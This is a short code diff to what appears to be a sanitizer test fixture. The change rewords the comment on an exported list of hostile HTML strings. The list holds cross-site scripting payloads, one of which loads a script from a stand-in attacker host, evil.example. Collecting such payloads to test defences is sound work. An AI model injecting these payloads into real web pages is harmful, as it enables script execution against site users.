@@ -1,6 +1,6 @@
 const NUL = '\u0000';
 
-/** HTML that tries to run something: each entry is one way in. What runs calls `alert` or sets `window.hacked`. */
+/** HTML that tries to run a script, one way each. The scripts call `alert` or set `window.hacked`. */
 export const HOSTILE_HTML: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
